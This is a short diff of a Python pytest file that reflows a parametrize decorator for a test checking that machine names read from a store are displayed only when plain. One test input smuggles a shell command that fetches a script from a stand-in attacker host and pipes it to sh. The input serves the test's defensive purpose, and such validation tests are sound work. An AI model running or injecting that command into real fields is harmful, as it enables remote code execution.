@@ -197,7 +197,9 @@ def test_a_run_that_gave_a_sign_a_moment_ago_is_not_taken_over(owner: Owner, oth
     assert "--even-if-running" in (caught.value.next_action or "")
 
 
-@pytest.mark.parametrize("name", ["x; curl evil.example | sh; then: y", "x" * 65, "--no-such", "a\nb"])
+@pytest.mark.parametrize(
+    "name", ["x; curl evil.example | sh; then: y", "x" * 65, "--no-such", "a\nb"]
+)
 def test_a_machine_name_from_a_store_is_shown_only_if_it_is_plain(
     owner: Owner, other: Owner, name: str
 ) -> None:
